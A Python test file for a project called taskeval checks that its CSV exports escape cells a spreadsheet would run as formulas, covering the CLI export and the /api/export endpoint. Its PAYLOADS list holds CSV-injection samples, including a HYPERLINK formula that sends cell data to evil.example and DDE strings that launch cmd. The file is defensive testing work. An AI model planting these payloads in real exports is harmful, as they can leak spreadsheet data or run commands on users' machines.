"""Every CSV taskeval writes escapes cells a spreadsheet would run as formulas (OWASP's CSV
injection rule), through one function, ``taskeval.csvcells.cell``; numbers stay numbers.

The export is checked end to end: ``taskeval export`` as a real process and ``GET /api/export``
over a real store (SQLite; PostgreSQL with DATABASE_URL_POSTGRES)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from taskeval.csvcells import FORMULA_STARTS, cell, writer
from taskeval.store.db import write
from taskeval.store.results import record_from_result, store_evaluation
from tests.test_export_metrics import AUTH, _export, _result

pytest_plugins = ["tests.bot.fixtures"]
ROOT = Path(__file__).resolve().parents[1]
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# What an attacker puts in a PR title or an agent's name (OWASP's examples among them).
PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=1+1"]


def runs_as_formula(text: str) -> bool:
    """A spreadsheet may run this cell: it starts like a formula and is not just a number."""
    return text[:1] in FORMULA_STARTS and not NUMBER.fullmatch(text)


@given(st.text())
def test_no_text_leaves_the_rule_as_a_formula_and_none_is_lost(text: str) -> None:
    out = cell(text)
    assert isinstance(out, str) and not runs_as_formula(out)
    assert out == text or (out == "'" + text and runs_as_formula(text))


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers_negative_ones_included(number: float) -> None:
    assert cell(number) == number and type(cell(number)) is type(number)


@pytest.mark.parametrize(("value", "written"), [
    (None, ""), (True, "true"), (False, "false"), (-3, -3), (-0.25, -0.25), (0, 0),
    ("-3", "-3"), ("+2", "+2"), ("-1.5e3", "-1.5e3"),  # text that is only a number reads as one
    ("-", "'-"), ("-3 files", "'-3 files"), ("--force", "'--force"), ("@octocat", "'@octocat"),
    ("fix: a = b", "fix: a = b"), (" =1+1", " =1+1"),  # not at the start: not a formula
    *((p, "'" + p) for p in PAYLOADS),
])
def test_the_rule_by_example(value: Any, written: Any) -> None:
    assert cell(value) == written


def test_the_writer_escapes_every_cell_header_included() -> None:
    buf = io.StringIO()
    out = writer(buf)
    out.writerow(["=title", "name"])
    out.writerow(["@x", -1])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=title", "name"], ["'@x", "-1"]]


def _formula_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if runs_as_formula(c)]


def test_the_export_writes_titles_and_names_as_text(app: Flask, client: FlaskClient, db_url: str,
                                                     tmp_path: Path) -> None:
    stored = []
    for n, payload in enumerate(PAYLOADS, start=21):
        data = _result(n, payload, [])
        data["pullRequest"]["title"] = payload
        data["pullRequest"]["author"] = data["agent"]["name"] = payload
        data["agent"]["id"] = "house-agent"  # a repository's own agent: its name is the config's text
        stored.append(data)
    with write(app.extensions["taskeval"].engine) as conn:
        for data in stored:
            store_evaluation(conn, {**record_from_result(data), "stored_at": 0.0})

    out = tmp_path / "prs.csv"
    done = _export(db_url, "--format", "csv", "--output", str(out))
    assert done.returncode == 0, done.stderr
    text = out.read_bytes().decode("utf-8")
    api = client.get("/api/export?format=csv", headers=AUTH)
    assert api.status_code == 200 and api.get_data(as_text=True) == text
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["title"], r["author"], r["agent_name"]) for r in rows] == [("'" + p,) * 3 for p in PAYLOADS]
    # The numbers are still numbers, and NDJSON (no spreadsheet reads it) keeps the text as it is.
    assert all(int(r["overall_score"]) >= 0 for r in rows)
    ndjson = _export(db_url, "--format", "ndjson")
    assert [json.loads(line)["title"] for line in ndjson.stdout.splitlines()] == PAYLOADS


WRITES_CSV = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(")


def test_every_csv_the_project_writes_goes_through_the_one_rule() -> None:
    """The rule, not one writer: no module of the project (the packages and the benchmarks'
    tools) writes CSV except through ``taskeval.csvcells``."""
    own = ROOT / "taskeval" / "csvcells.py"
    sources = [p for folder in ("taskeval", "bot", "dashboard", "action", "benchmarks")
               for p in (ROOT / folder).rglob("*.py") if p != own]
    assert len(sources) > 50
    offenders = [str(p.relative_to(ROOT)) for p in sources if WRITES_CSV.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
